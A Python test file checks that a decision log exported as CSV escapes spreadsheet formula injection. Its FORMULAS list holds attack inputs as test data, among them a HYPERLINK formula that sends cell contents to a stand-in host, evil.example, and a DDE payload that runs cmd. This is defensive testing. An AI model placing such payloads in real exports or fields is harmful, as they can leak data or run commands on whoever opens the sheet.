"""What others wrote, in the decision log that people open in a spreadsheet or read on a page."""

import csv
import io
import re
from dataclasses import replace

from adapters.decision_log import csv_text
from agent_core.model.audit import AuditEntry
from agent_core.testing.examples import ANA, NOON, an_agent
from tests.attacks.rows import attack

ADA = an_agent(turns=1)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '"=1',
    " =1",
    "ok;=1",
    "ok\t@x",
    "ok\n=1",
    "\uff1d1",
)


@attack(
    "approval",
    "A reason for a rejection that is a formula: =HYPERLINK(…), also behind a semicolon or a tab",
    "the table of the decision log has an apostrophe before it",
)
def test_no_cell_of_the_table_is_a_formula() -> None:
    for text in FORMULAS:
        assert formulas_in(text) == [], text


def formulas_in(text: str) -> list[str]:
    """What a spreadsheet would run of a row in which people wrote this, however it splits cells."""
    whose = replace(ADA, name=text)
    table = csv_text([AuditEntry.on(whose, "reject", by=replace(ANA, display=text), at=NOON, detail=text)])
    cells = [cell for line in csv.reader(io.StringIO(table[1:], newline="")) for cell in line]
    parts = [part.strip('" \r') for cell in cells for part in re.split("[;\t\n]", cell)]
    return [part for part in parts if part[:1] in tuple("=+-@\uff1d")]
